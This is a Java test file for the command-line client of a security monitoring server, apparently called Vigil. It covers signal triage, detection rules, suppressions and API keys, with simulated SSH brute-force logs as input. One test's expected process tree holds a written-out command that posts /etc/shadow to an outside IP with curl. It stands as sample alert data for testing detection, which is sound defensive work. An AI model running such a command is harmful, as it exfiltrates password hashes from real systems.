package dev.vigil.cli;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.vigil.server.ServerConfig;
import dev.vigil.server.VigilServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

import java.io.InputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The API commands ({@code signals}, {@code detection-rules}, {@code suppressions},
 * {@code api-keys}) against a real server started in this JVM, fed through its intake the way
 * agents and syslog shippers feed it. One server for the class; each test raises its own signals
 * (a brute force per user name), so tests do not depend on each other's order.
 */
class ApiCommandsTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final DateTimeFormatter SYSLOG_TIME = DateTimeFormatter.ofPattern("MMM ppd HH:mm:ss", Locale.ENGLISH)
            .withZone(ZoneOffset.UTC);

    @TempDir
    static Path data;
    @TempDir
    Path tmp;

    private static VigilServer server;
    private static String url;
    private static Path keyFile;
    private static String key;
    private static final HttpClient HTTP = HttpClient.newHttpClient();

    @BeforeAll
    static void startServer() throws Exception {
        server = VigilServer.start(ServerConfig.defaults(data).withPort(0));
        url = "http://127.0.0.1:" + server.port();
        keyFile = data.resolve(VigilServer.INITIAL_KEY_FILE);
        key = Files.readString(keyFile).strip();
    }

    @AfterAll
    static void stopServer() throws Exception {
        if (server != null) server.close();
    }

    // ---- signals

    @Test
    void listAndShowASignalRaisedBySyslogLines() throws Exception {
        String id = bruteForce("root", "203.0.113.9");

        Run list = vigil("signals", "list", "--status", "open,under_review", "--severity", "high,critical",
                "--rule", "ssh-brute-force-then-success", "--host", "web-1", "--q", "for root", "--from", "-24h", "--limit", "10");
        assertThat(list.code()).as(list.err()).isZero();
        assertThat(list.out()).startsWith("ID ").containsPattern(Pattern.quote(id) + "\\s+critical\\s+open\\s+1\\s+\\S+Z\\s+"
                + Pattern.quote("Successful SSH login for root after a brute force from 203.0.113.9")).contains("1 of 1 signals");

        Run json = vigil("signals", "list", "--json", "--q", "for root", "--from", "24h");
        assertThat(json.code()).isZero();
        JsonNode line = JSON.readTree(json.out().lines().findFirst().orElseThrow());
        assertThat(line.path("id").asText()).isEqualTo(id);
        assertThat(line.path("entities").path("ip").get(0).asText()).isEqualTo("203.0.113.9");

        assertThat(vigil("signals", "list", "--severity", "low", "--q", "for root").out()).isEqualTo("no signals match\n");

        Run show = vigil("signals", "show", id);
        assertThat(show.code()).as(show.err()).isZero();
        assertThat(show.out())
                .startsWith("Successful SSH login for root after a brute force from 203.0.113.9\n")
                .containsPattern("Rule\\s+ssh-brute-force-then-success\n")
                .containsPattern("Severity\\s+critical\n")
                .containsPattern("Status\\s+open\n")
                .containsPattern("Count\\s+1 match\n")
                .containsPattern("First seen\\s+20\\d\\d-")
                .containsPattern("MITRE ATT&CK\\s+tactic TA0006, technique T1110.001\n")
                .containsPattern("\n  host\\s+web-1\n")
                .containsPattern("\n  user\\s+root\n")
                .containsPattern("\n  ip\\s+203.0.113.9\n")
                .contains("\nTriage\n  Treat the account as compromised")
                .contains("\nProcess tree (oldest ancestor first)\n  ")
                .containsPattern("\nHistory\n  20\\S+Z\\s+vigil\\s+created, open\n");
    }

    @Test
    void archivingWithAReasonIsRecordedInTheHistory() throws Exception {
        String id = bruteForce("admin", "203.0.113.10");

        Run noReason = vigil("signals", "status", id, "archived");
        assertThat(noReason.code()).isEqualTo(1);
        assertThat(noReason.err()).contains("vigil signals status: the server answered 409: archiving signal `" + id
                + "` needs a reason (one of: false_positive,");
        Run badStatus = vigil("signals", "status", id, "closed");
        assertThat(badStatus.code()).isEqualTo(1);
        assertThat(badStatus.err()).contains("400: unknown status 'closed' (one of: open, under_review, archived)");

        Run archive = vigil("signals", "status", id, "archived", "--reason", "false_positive", "--comment", "our scanner");
        assertThat(archive.code()).as(archive.err()).isZero();
        assertThat(archive.out()).isEqualTo(id + ": archived (false_positive)\n");
        assertThat(vigil("signals", "assign", id, "alice").out()).isEqualTo(id + ": assigned to alice\n");
        assertThat(vigil("signals", "comment", id, "checked", "with", "the", "team").out()).isEqualTo(id + ": comment added\n");

        String show = vigil("signals", "show", id).out();
        assertThat(show)
                .containsPattern("Status\\s+archived \\(false_positive\\)\n")
                .containsPattern("Assignee\\s+alice\n");
        String history = show.substring(show.indexOf("\nHistory\n"));
        assertThat(history.lines().skip(2).map(String::strip).map(l -> l.replaceAll("\\s{2,}", " | ")).toList())
                .extracting(l -> l.substring(l.indexOf(" | ") + 3))
                .containsExactly(
                        "vigil | created, open",
                        "key:initial | status open -> archived: our scanner",
                        "key:initial | archive reason none -> false_positive",
                        "key:initial | assignee none -> alice",
                        "key:initial | comment: checked with the team");

        assertThat(vigil("signals", "list", "--status", "archived", "--q", "for admin").out()).contains(id);
        assertThat(vigil("signals", "list", "--status", "open", "--q", "for admin").out()).isEqualTo("no signals match\n");
        assertThat(vigil("signals", "show", "sig-nope").err()).isEqualTo("vigil signals show: the server answered 404: no signal sig-nope\n");
    }

    @Test
    void showDrawsTheProcessTreeOfAnAgentAlertAsAnIndentedAncestry() throws Exception {
        String line;
        try (InputStream in = ApiCommandsTest.class.getResourceAsStream("agent-alert.json")) {
            line = new String(in.readAllBytes(), StandardCharsets.UTF_8).strip()
                    .replace("1767225600124806789", Long.toString(ChronoUnit.NANOS.between(Instant.EPOCH, Instant.now())));
        }
        post("/api/v1/intake/agent", line);
        String id = awaitSignal("rule=vigil-agent-alerts&host=web-prod-3");

        Run show = vigil("signals", "show", id);
        assertThat(show.code()).as(show.err()).isZero();
        String out = show.out();
        List<String> tree = out.substring(out.indexOf("Process tree")).lines().skip(1).takeWhile(l -> !l.isBlank()).toList();
        assertThat(tree).containsExactly(
                "  4100 /usr/bin/tini -- java -jar /srv/app/app.jar  (user root)",
                "     \\_ 4242 /usr/lib/jvm/java-21-openjdk/bin/java -jar /srv/app/app.jar  (uid 1000)",
                "        \\_ 4343 /bin/sh -c 'curl -s -d @- http://203.0.113.7/x < /etc/shadow'  (uid 1000, container 4f2a9c0e1b7d)"
                        + "  <- triggered the rule");
        assertThat(out).containsPattern("\n  container\\s+web-1\n").containsPattern("\n  image\\s+acme/web:1.4.2\n");
    }

    // ---- detection rules

    @Test
    void validatePrintsEachProblemWithFileLineAndColumn() throws Exception {
        Path bad = Files.writeString(tmp.resolve("bad.yaml"), """
                id: cli-bad
                name: Bad
                method: threshold
                queries:
                  - name: a
                    query: "source:sshd @evt.name:("
                cases:
                  - status: bogus
                """);
        Path good = Files.writeString(tmp.resolve("good.yaml"), """
                id: cli-good
                name: Good
                method: match
                queries:
                  - name: a
                    query: "source:sshd @evt.outcome:failure"
                cases:
                  - status: low
                """);
        Run r = vigil("detection-rules", "validate", bad.toString(), good.toString());
        assertThat(r.code()).isEqualTo(1);
        assertThat(r.out().lines().toList()).containsExactly(
                bad + ":6:36 queries[0].query: column 24: expected a value after '(' but found end of query",
                bad + ":8:13 cases[0].status: unknown severity 'bogus' (info, low, medium, high, critical, or a placeholder such as {{@alert.rule.severity}})",
                bad + ":8:5 cases[0]: a threshold case needs a condition over the query names, e.g. 'a > 10'",
                good + ": valid (cli-good)",
                "1 valid, 1 invalid");
        assertThat(vigil("detection-rules", "validate", good.toString()).code()).isZero();

        Run putBoth = vigil("detection-rules", "put", good.toString(), bad.toString());
        assertThat(putBoth.code()).isEqualTo(1);
        assertThat(putBoth.err()).contains(bad + ":6:36 queries[0].query:").endsWith("nothing stored: fix the problems above\n");
        assertThat(vigil("detection-rules", "list").out()).doesNotContain("cli-good");
    }

    @Test
    void aStoredRuleIsListedSwitchedShownAndDeleted() throws Exception {
        Path f = Files.writeString(tmp.resolve("r.yaml"), """
                id: cli-stored
                name: Stored from the CLI
                method: match
                queries:
                  - name: a
                    query: "source:sshd @evt.outcome:failure @usr.name:nobody-here"
                cases:
                  - status: low
                """);
        assertThat(vigil("detection-rules", "put", f.toString()).out()).isEqualTo("stored cli-stored version 1 from " + f + "\n");
        assertThat(vigil("detection-rules", "list").out()).containsPattern("\ncli-stored\\s+match\\s+yes\\s+0\\s+0\\s+Stored from the CLI\n");
        assertThat(vigil("detection-rules", "disable", "cli-stored").out()).isEqualTo("cli-stored disabled, version 2\n");
        assertThat(vigil("detection-rules", "show", "cli-stored").out())
                .containsPattern("Enabled\\s+no\n").containsPattern("Version\\s+2\n").endsWith("\n\n" + Files.readString(f));
        assertThat(vigil("detection-rules", "enable", "cli-stored").out()).isEqualTo("cli-stored enabled, version 3\n");
        assertThat(vigil("detection-rules", "delete", "cli-stored").out()).isEqualTo("deleted cli-stored\n");
        assertThat(vigil("detection-rules", "show", "cli-stored").err()).contains("404: no stored rule cli-stored");

        Run builtin = vigil("detection-rules", "disable", "ssh-brute-force");
        assertThat(builtin.code()).isEqualTo(1);
        assertThat(builtin.err()).contains("ssh-brute-force is built in or comes from a rules directory");
        assertThat(vigil("detection-rules", "show", "ssh-brute-force").out()).containsPattern("Method\\s+threshold\n")
                .contains("its source is not stored on the server");
    }

    // ---- suppressions

    @Test
    void suppressionsAreCreatedListedAndDeleted() throws Exception {
        Run add = vigil("suppressions", "add", "--name", "vuln scanner", "--query", "@network.client.ip:198.51.100.7",
                "--rule", "ssh-brute-force", "--expires", "7d");
        assertThat(add.code()).as(add.err()).isZero();
        Matcher m = Pattern.compile("created (sup-\\S+), expires (\\S+)\n").matcher(add.out());
        assertThat(m.matches()).as(add.out()).isTrue();
        String id = m.group(1);
        assertThat(Instant.parse(m.group(2))).isBetween(Instant.now().plus(7, ChronoUnit.DAYS).minusSeconds(60),
                Instant.now().plus(7, ChronoUnit.DAYS));

        assertThat(vigil("suppressions", "list").out()).containsPattern(Pattern.quote(id)
                + "\\s+vuln scanner\\s+ssh-brute-force\\s+yes\\s+" + Pattern.quote(m.group(2)) + "\\s+0\\s+@network.client.ip:198.51.100.7\n");

        Run badQuery = vigil("suppressions", "add", "--name", "x", "--query", "a:(");
        assertThat(badQuery.code()).isEqualTo(1);
        assertThat(badQuery.err()).contains("422: query: column 4:");
        Run badExpiry = vigil("suppressions", "add", "--name", "x", "--query", "a:b", "--expires", "tomorrow");
        assertThat(badExpiry.code()).isEqualTo(3);
        assertThat(badExpiry.err()).contains("--expires 'tomorrow' is neither a duration");

        assertThat(vigil("suppressions", "delete", id).out()).isEqualTo("deleted " + id + "\n");
        assertThat(vigil("suppressions", "list").out()).doesNotContain(id);
        assertThat(vigil("suppressions", "delete", id).err()).contains("404: no suppression " + id);
    }

    // ---- API keys

    @Test
    void aRevokedApiKeyIsRefused() throws Exception {
        Path ciKey = tmp.resolve("ci.key");
        Run create = vigil("api-keys", "create", "ci", "--output", ciKey.toString());
        assertThat(create.code()).as(create.err()).isZero();
        Matcher m = Pattern.compile("created API key (key-\\S+) \\(ci\\), written to .*\n").matcher(create.out());
        assertThat(m.matches()).as(create.out()).isTrue();
        assertThat(Files.getPosixFilePermissions(ciKey)).isEqualTo(PosixFilePermissions.fromString("rw-------"));
        String ciSecret = Files.readString(ciKey).strip();

        Run asCi = vigil(ciKey, "api-keys", "list");
        assertThat(asCi.code()).as(asCi.err()).isZero();
        assertThat(asCi.out()).containsPattern(Pattern.quote(m.group(1)) + "\\s+ci\\s+" + Pattern.quote(ciSecret.substring(0, 12))
                + "\\.\\.\\.\\s+\\S+\\s+key:initial\\s+\\S+\\s+active\n");

        assertThat(vigil("api-keys", "revoke", m.group(1)).out()).isEqualTo("revoked " + m.group(1) + "\n");
        Run refused = vigil(ciKey, "signals", "list");
        assertThat(refused.code()).isEqualTo(1);
        assertThat(refused.err()).contains("the server answered 401: API key rejected (unknown or revoked)");
        assertThat(vigil("api-keys", "list").out()).containsPattern(Pattern.quote(m.group(1)) + ".*revoked\n");

        for (Run r : List.of(create, asCi, refused)) {
            assertThat(r.out() + r.err()).doesNotContain(ciSecret).doesNotContain(key);
        }
    }

    @Test
    void createWithoutOutputPrintsOnlyTheKeyOnStdout() {
        Run r = vigil("api-keys", "create", "script");
        assertThat(r.code()).isZero();
        assertThat(r.out()).matches("vgl_[0-9A-Za-z]{43}\n");
        assertThat(r.err()).contains("(script): store the key now, it is not shown again");
    }

    // ---- failing without a server or a key

    @Test
    void withoutAServerOrAKeyTheCommandSaysWhatIsMissing() throws Exception {
        Run noServer = run("signals", "list", "--server", "http://127.0.0.1:1", "--api-key-file", keyFile.toString());
        assertThat(noServer.code()).isEqualTo(3);
        assertThat(noServer.err()).startsWith("vigil signals list: cannot reach the server at http://127.0.0.1:1: connection refused");

        Run noKey = run("signals", "list", "--server", url, "--api-key-file", tmp.resolve("missing").toString());
        assertThat(noKey.code()).isEqualTo(3);
        assertThat(noKey.err()).isEqualTo("vigil signals list: the API key file " + tmp.resolve("missing") + " does not exist\n");
    }

    @Test
    void theKeyComesFromTheFileGivenThenTheEnvironmentThenTheDefaultFiles() throws Exception {
        Path home = Files.createDirectories(tmp.resolve("home"));
        Path given = Files.writeString(tmp.resolve("given"), "vgl_given\n");
        assertThat(ApiClient.resolveKey(given, Map.of("VIGIL_API_KEY", "vgl_env"), home)).isEqualTo("vgl_given");
        assertThat(ApiClient.resolveKey(null, Map.of("VIGIL_API_KEY", "vgl_env"), home)).isEqualTo("vgl_env");
        Path local = home.resolve(".local/share/vigil/initial-api-key");
        if (!Files.exists(Path.of("/var/lib/vigil/server/initial-api-key"))) {
            assertThatThrownBy(() -> ApiClient.resolveKey(null, Map.of(), home)).hasMessage(
                    "no API key: give --api-key-file FILE or set VIGIL_API_KEY (tried " + local + ", /var/lib/vigil/server/initial-api-key)");
        }
        Files.createDirectories(local.getParent());
        Files.writeString(local, "vgl_local\n");
        assertThat(ApiClient.resolveKey(null, Map.of(), home)).isEqualTo("vgl_local");

        Path garbage = Files.writeString(tmp.resolve("garbage"), "not a\u001b[2Jkey");
        assertThatThrownBy(() -> ApiClient.resolveKey(garbage, Map.of(), home))
                .hasMessage("the API key in " + garbage + " holds characters an API key cannot have");
    }

    // ---- plumbing

    private record Run(int code, String out, String err) {}

    /** {@code vigil ARGS --server URL --api-key-file KEY} with the server's first key. */
    private static Run vigil(String... args) {
        return vigil(keyFile, args);
    }

    private static Run vigil(Path key, String... args) {
        List<String> all = new ArrayList<>(List.of(args));
        all.addAll(List.of("--server", url, "--api-key-file", key.toString()));
        return run(all.toArray(String[]::new));
    }

    private static Run run(String... args) {
        StringWriter out = new StringWriter(), err = new StringWriter();
        CommandLine cl = Main.commandLine();
        cl.setOut(new PrintWriter(out, true));
        cl.setErr(new PrintWriter(err, true));
        int code = cl.execute(args);
        return new Run(code, out.toString(), err.toString());
    }

    /** Ten failed SSH logins and a successful one for {@code user} from {@code ip}, as auth.log lines; returns the signal. */
    private static String bruteForce(String user, String ip) throws Exception {
        String now = SYSLOG_TIME.format(Instant.now());
        StringBuilder lines = new StringBuilder();
        for (int i = 0; i < 12; i++) {
            lines.append(now).append(" web-1 sshd[").append(1000 + i).append("]: Failed password for ").append(user)
                    .append(" from ").append(ip).append(" port ").append(40000 + i).append(" ssh2\n");
        }
        lines.append(now).append(" web-1 sshd[2000]: Accepted password for ").append(user).append(" from ").append(ip)
                .append(" port 41000 ssh2\n");
        post("/api/v1/intake/syslog", lines.toString());
        return awaitSignal("rule=ssh-brute-force-then-success&user=" + URLEncoder.encode(user, StandardCharsets.UTF_8));
    }

    private static void post(String path, String body) throws Exception {
        HttpResponse<String> res = HTTP.send(HttpRequest.newBuilder(URI.create(url + path)).header("Authorization", "Bearer " + key)
                .POST(HttpRequest.BodyPublishers.ofString(body)).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(res.statusCode()).as(res.body()).isEqualTo(202);
    }

    /** The id of the one signal matching {@code query}, once detection has stored it (within 20 s). */
    private static String awaitSignal(String query) throws Exception {
        long deadline = System.nanoTime() + 20_000_000_000L;
        while (true) {
            HttpResponse<String> res = HTTP.send(HttpRequest.newBuilder(URI.create(url + "/api/v1/signals?" + query))
                    .header("Authorization", "Bearer " + key).build(), HttpResponse.BodyHandlers.ofString());
            JsonNode page = JSON.readTree(res.body());
            if (page.path("total").asLong() > 0) {
                assertThat(page.path("total").asLong()).as(res.body()).isEqualTo(1);
                return page.path("signals").get(0).path("id").asText();
            }
            if (System.nanoTime() > deadline) throw new AssertionError("no signal for " + query + " within 20 s");
            Thread.sleep(50);
        }
    }
}
